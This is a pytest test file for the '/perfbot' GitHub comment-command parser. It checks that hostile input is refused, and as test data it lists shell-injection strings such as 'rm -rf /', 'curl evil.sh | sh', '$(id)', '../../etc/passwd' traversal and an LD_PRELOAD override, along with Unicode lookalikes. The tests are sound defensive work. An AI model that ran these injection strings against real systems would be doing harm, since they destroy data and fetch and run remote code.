"""The `/perfbot` comment grammar: what it accepts, and that hostile input is refused, not run."""

import pytest

from perfbot.github.command import (
    KEYS,
    MAX_LINE,
    USAGE,
    Help,
    Invalid,
    OkToTest,
    Rerun,
    code,
    first_line,
    parse_comment,
)


def rerun(*targets, **options):
    return Rerun(tuple(targets), options)


@pytest.mark.parametrize(
    ("body", "want"),
    [
        ("/perfbot rerun", rerun()),
        ("/perfbot rerun examples/dit/README.md", rerun("examples/dit/README.md")),
        ("/perfbot rerun ./examples/dit dit", rerun("examples/dit", "dit")),
        ("/perfbot rerun dit cards=8", rerun("dit", cards=8)),
        (
            "/perfbot rerun cards=8 dit steps=50 kind=Inference",
            rerun("dit", cards=8, steps=50, kind="inference"),
        ),
        ("/perfbot  rerun\tdit-256-1p   batch=64  ", rerun("dit-256-1p", batch=64)),
        ("/perfbot rerun dit dit", rerun("dit")),
        ("/PerfBot ReRun YOLOv8", rerun("YOLOv8")),
        ("\n\n  /perfbot rerun dit\nplease, and thanks", rerun("dit")),
        ("   /perfbot rerun dit", rerun("dit")),  # up to three spaces: still a paragraph
        ("/perfbot rerun dit\r\n@someone see above", rerun("dit")),
        ("/perfbot help", Help()),
        ("/perfbot", Help()),
        ("/perfbot help me please", Help()),
        ("/perfbot ok-to-test", OkToTest()),
        ("/perfbot ok-to-test 9F4E4B1", OkToTest("9f4e4b1")),
        ("/perfbot ok-to-test " + "a" * 40, OkToTest("a" * 40)),
    ],
)
def test_valid_commands(body, want):
    assert parse_comment(body) == want


@pytest.mark.parametrize(
    "body",
    [
        None,
        "",
        "LGTM",
        "> /perfbot rerun",  # a quote of someone else's command
        "please /perfbot rerun",
        "Thanks!\n/perfbot rerun",  # only the first line counts
        "```\n/perfbot rerun\n```",
        "/perfbotrerun",
        "/perfbot-rerun",
        "/perfbots rerun",
        "perfbot rerun",
        "\u200b\n/perfbot rerun",  # an invisible first line is not blank
        "    /perfbot rerun dit",  # four spaces: GitHub shows an indented code block
        "\t/perfbot rerun dit",  # a tab indents a code block too
        "  \t/perfbot rerun dit",
    ],
)
def test_not_addressed_to_perfbot(body):
    assert parse_comment(body) is None


def invalid(body) -> str:
    got = parse_comment(body)
    assert isinstance(got, Invalid), got
    return got.reason


@pytest.mark.parametrize(
    "body",
    [
        "/perfbot rerun dit; rm -rf /",
        "/perfbot rerun dit && curl evil.sh | sh",
        "/perfbot rerun $(id)",
        "/perfbot rerun `id`",
        "/perfbot rerun dit|tee",
        "/perfbot rerun dit>out",
        "/perfbot rerun 'dit'",
        '/perfbot rerun "dit"',
        "/perfbot rerun ${HOME}",
        "/perfbot rerun dit*",
        "/perfbot rerun ~/x",
        "/perfbot rerun ../../etc/passwd",
        "/perfbot rerun examples/../../x",
        "/perfbot rerun /etc/passwd",
        "/perfbot rerun -rf",
        "/perfbot rerun --config=/tmp/x",
        "/perfbot rerun a//b",
        "/perfbot rerun dit\\",
        "/perfbot rerun cards=8;id",
        "/perfbot rerun cards=$(id)",
        "/perfbot rerun cards=-1",
        "/perfbot rerun cards=0",
        "/perfbot rerun cards=+8",
        "/perfbot rerun cards=8.0",
        "/perfbot rerun cards=99999",
        "/perfbot rerun cards=1e3",
        "/perfbot rerun cards=",
        "/perfbot rerun =8",
        "/perfbot rerun cards=8 cards=4",
        "/perfbot rerun kind=eval",
        "/perfbot rerun command=id",
        "/perfbot rerun env=LD_PRELOAD=/x.so",
        "/perfbot rerun timeout=1",
        "/perfbot rerun @maintainer",
        "/perfbot rerun dit @org/team",
        "/perfbot rerun #123",
        "/perfbot ok-to-test zzzzzzz",
        "/perfbot ok-to-test 123",
        "/perfbot ok-to-test abcdef1 now",
        "/perfbot deploy",
        "/perfbot, rerun",
    ],
)
def test_hostile_or_malformed_input_is_refused(body):
    reason = invalid(body)
    assert "\n" not in reason


@pytest.mark.parametrize(
    ("body", "what"),
    [
        ("/pеrfbot rerun dit", "U+0435 CYRILLIC SMALL LETTER IE"),  # Cyrillic e
        ("/perfbot rеrun dit", "U+0435"),
        ("／ｐｅｒｆｂｏｔ rerun", "U+FF0F FULLWIDTH SOLIDUS"),  # NFKC makes it /perfbot
        ("/perf\u200bbot rerun", "U+200B ZERO WIDTH SPACE"),
        ("/perfbot\u200brerun dit", "U+200B ZERO WIDTH SPACE"),  # was silently ignored
        ("/perfbot\u2060ok-to-test", "U+2060 WORD JOINER"),
        ("/perfbot\u00a0rerun", "U+00A0 NO-BREAK SPACE"),
        ("/perfbot rerun dit\u202eexe.md", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("/perfbot rerun dіt", "U+0456"),  # Cyrillic i in a target
        ("/perfbot rerun cards=８", "U+FF18"),  # fullwidth digit
        ("/perfbot rerun dit\x00", "U+0000"),
        ("/perfbot rerun dit\x1b[31m", "U+001B"),
        ("\u2215perfbot rerun", "U+2215 DIVISION SLASH"),
        ("/perfbot rerun kind＝training", "U+FF1D"),
    ],
)
def test_lookalike_and_invisible_characters_are_refused_and_named(body, what):
    reason = invalid(body)
    assert what in reason and "plain ASCII" in reason


def test_very_long_lines_are_refused_quickly():
    assert "limit is 1000" in invalid("/perfbot rerun " + "a" * MAX_LINE)
    assert "limit is" in invalid("/perfbot rerun " + "x " * 45)  # too many words
    assert "at most 20 targets" in invalid("/perfbot rerun " + " ".join(f"m{i}" for i in range(21)))
    assert "not a README path" in invalid("/perfbot rerun " + "a" * 201)
    # a huge comment: only its first line is looked at, and that is refused
    reason = invalid("/perfbot rerun " + "a" * 10_000_000)
    assert "characters long" in reason


def test_messages_quote_tokens_as_code_so_mentions_and_html_stay_inert():
    reason = invalid("/perfbot rerun @maintainer")
    assert "`@maintainer`" in reason
    reason = invalid("/perfbot rerun <!--x-->")
    assert "`<!-\u200d-x-->`" in reason and "<!--" not in reason  # shown, never a comment
    reason = invalid("/perfbot rerun a``b`")
    assert "``` a``b` ```" in reason


def test_unknown_words_get_a_hint():
    assert "did you mean `rerun`" in invalid("/perfbot rern")
    assert "did you mean `cards=`" in invalid("/perfbot rerun card=8")
    assert "between 1 and 4096" in invalid("/perfbot rerun cards=5000")
    assert "training, inference" in invalid("/perfbot rerun kind=train")


def test_code_span():
    assert code("abc") == "`abc`"
    assert code("a`b") == "``a`b``"
    assert code("`x`") == "`` `x` ``"
    assert code("x" * 100).endswith("…`") and len(code("x" * 100)) == 42
    assert code("a\x00b") == "`a�b`"


def test_first_line():
    assert first_line(" \t\n\r\n/perfbot help\nmore") == "/perfbot help"
    assert first_line("a\rb") == "a"
    assert first_line(None) == ""


def test_usage_names_every_key_and_command():
    for k in KEYS:
        assert f"`{k}=`" in USAGE
    for c in ("/perfbot rerun", "/perfbot ok-to-test", "/perfbot help"):
        assert c in USAGE
